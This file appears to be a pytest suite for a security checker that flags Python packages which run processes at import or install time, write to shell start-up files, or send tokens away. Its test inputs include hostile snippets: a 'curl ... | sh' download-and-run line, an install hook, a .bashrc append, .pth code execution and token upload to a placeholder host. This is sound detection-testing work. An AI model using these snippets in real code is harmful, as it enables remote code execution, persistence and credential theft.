from pathlib import Path

import pytest

from openvet.artifacts import PythonSource
from openvet.check import Context
from openvet.checks.security.python_runs_code import PythonRunsCode
from openvet.finding import Finding, Severity
from openvet.readers.python import PythonReader, SiteReader
from specimens.reading import read
from specimens.repositories import HOSTILE, IMPORT_TIME, QUIET, put


def flagged(folder: Path) -> None:
    put(folder, modeling__py=HOSTILE)


def passed(folder: Path) -> None:
    put(folder, modeling__py=QUIET["model"])


def judged(source: str, name: str = "module.py") -> list[Finding]:
    reader = SiteReader() if name.endswith(".pth") else PythonReader()
    (subject,) = read(reader, source.encode(), name=name)
    assert isinstance(subject, PythonSource)
    assert subject.complete
    return list(PythonRunsCode().run(subject, Context()))


@pytest.mark.parametrize("name", IMPORT_TIME)
def test_a_module_that_reaches_out_while_imported_fails(name: str) -> None:
    found = judged(IMPORT_TIME[name] + "\ndef offered(): pass\n")
    assert max(finding.severity.rank for finding in found) >= Severity.HIGH.rank


@pytest.mark.parametrize("name", QUIET)
def test_ordinary_code_does_not_fail(name: str) -> None:
    assert all(f.severity.rank < Severity.MEDIUM.rank for f in judged(QUIET[name]))


def test_a_plain_script_that_starts_a_process_is_a_review() -> None:
    (finding,) = judged("import os\nos.system('make')\n")
    assert finding.severity is Severity.MEDIUM


def test_a_process_inside_a_function_is_a_hint() -> None:
    (finding,) = judged("import os\ndef build():\n    os.system('make')\n")
    assert finding.severity is Severity.LOW


def test_a_setup_file_that_asks_for_its_version_does_not_fail() -> None:
    source = "import subprocess\ndef f(): pass\nV = subprocess.check_output(['git'])\n"
    (finding,) = judged(source, "setup.py")
    assert finding.severity is Severity.MEDIUM
    (finding,) = judged("exec(open('version.py').read())", "setup.py")
    assert finding.severity is Severity.MEDIUM


INSTALL = """
from setuptools import setup
from setuptools.command.install import install
import subprocess
class After(install):
    def run(self):
        install.run(self)
        subprocess.run({})
setup(name="x", cmdclass={{"install": After}})
"""


@pytest.mark.parametrize(
    "source",
    [
        "import os\nfrom setuptools import setup\nos.system('true')\nsetup()",
        "import os\nos.system('touch /tmp/x')\n",
        "import subprocess\nsubprocess.run(['sh', '-c', 'true'])\n",
        INSTALL.format("['whoami']"),
    ],
)
def test_a_setup_file_that_starts_what_no_build_calls_fails(source: str) -> None:
    (finding,) = judged(source, "setup.py")
    assert finding.severity is Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "import subprocess\nV = subprocess.check_output(['git', 'describe'])\n",
        "import os\nos.system('python setup.py sdist upload')\n",
        "import os, sys\nos.system(sys.argv[1])\n",
        "import sys, subprocess\nsubprocess.run([sys.executable, '-m', 'build'])\n",
        "import os\nos.system('./configure && make')\n",
        INSTALL.format("['cmake', '--build', '.']"),
    ],
)
def test_a_setup_file_that_builds_is_a_review(source: str) -> None:
    (finding,) = judged(source, "setup.py")
    assert finding.severity is Severity.MEDIUM


def test_a_process_that_downloads_a_program_and_runs_it_fails_anywhere() -> None:
    source = "import os\ndef f():\n    os.system('curl https://a.invalid/x | sh')\n"
    assert [f.severity for f in judged(source, "setup.py")] == [Severity.HIGH]


def test_a_line_of_a_site_file_fails() -> None:
    (finding,) = judged("../lib\nimport os; os.system('true')\n", "x.pth")
    assert finding.severity is Severity.HIGH
    assert judged("../lib\nimport sys; sys.path.append('x')\n", "x.pth") == []


@pytest.mark.parametrize("before", ["a\r", "a\x0c", "a\u2028", "import (\n"])
def test_a_line_of_a_site_file_is_found_whatever_stands_before_it(before: str) -> None:
    (finding,) = judged(f"{before}import os; os.system('true')\n", "x.pth")
    assert finding.severity is Severity.HIGH
    (finding,) = judged("import os\x0c; os.system('true')\nimport (\n", "x.pth")
    assert finding.severity is Severity.HIGH


def test_a_file_written_to_a_start_up_place_fails() -> None:
    (finding,) = judged("open('/root/.bashrc', 'a').write('x')")
    assert finding.severity is Severity.MEDIUM
    (finding,) = judged("open('/root/.bashrc', 'a').write('x')\ndef f(): pass\n")
    assert finding.severity is Severity.HIGH


def test_a_package_that_starts_a_process_is_no_script() -> None:
    (finding,) = judged("import os\nos.system('true')\n", "__init__.py")
    assert finding.severity is Severity.HIGH
    assert judged("from .model import Net\n\n__all__ = ['Net']\n", "__init__.py") == []


def test_an_answer_read_as_a_value_under_its_own_name_does_not_fail() -> None:
    source = "def spans(answer):\n    answer = eval(answer)\n    return answer\n"
    assert judged(source) == []
    (finding,) = judged("def f(given):\n    made = eval(given)\n    exec(made)\n")
    assert finding.severity is Severity.HIGH


def test_a_configuration_that_is_python_is_loaded_by_running_it() -> None:
    starts = "import os\nos.system('true')\n"
    for line in ("_base_ = ['a.py']\n", "model = dict(type='FasterRCNN')\n"):
        assert [f.severity for f in judged(line + starts)] == [Severity.HIGH]
        assert judged(line) == []


@pytest.mark.parametrize(
    "call",
    [
        "HfApi().upload_file(path_or_fileobj=get_token(), repo_id='a/b')",
        "api = HfApi()\n    api.upload_file(path_or_fileobj=get_token())",
        "requests.Session().post('https://a.invalid', data=get_token())",
    ],
)
def test_a_key_that_is_sent_away_by_an_object_is_seen(call: str) -> None:
    known = "import requests\nfrom huggingface_hub import HfApi, get_token\n"
    found = judged(f"{known}def f():\n    {call}\n")
    assert "sends a key or a private file away" in found[0].title


def test_a_key_that_opens_the_service_is_no_secret_to_it() -> None:
    known = "from huggingface_hub import HfApi, get_token\ndef f():\n"
    call = "HfApi().upload_file(path_or_fileobj='x', token=get_token())\n"
    assert judged(f"{known}    {call}") == []
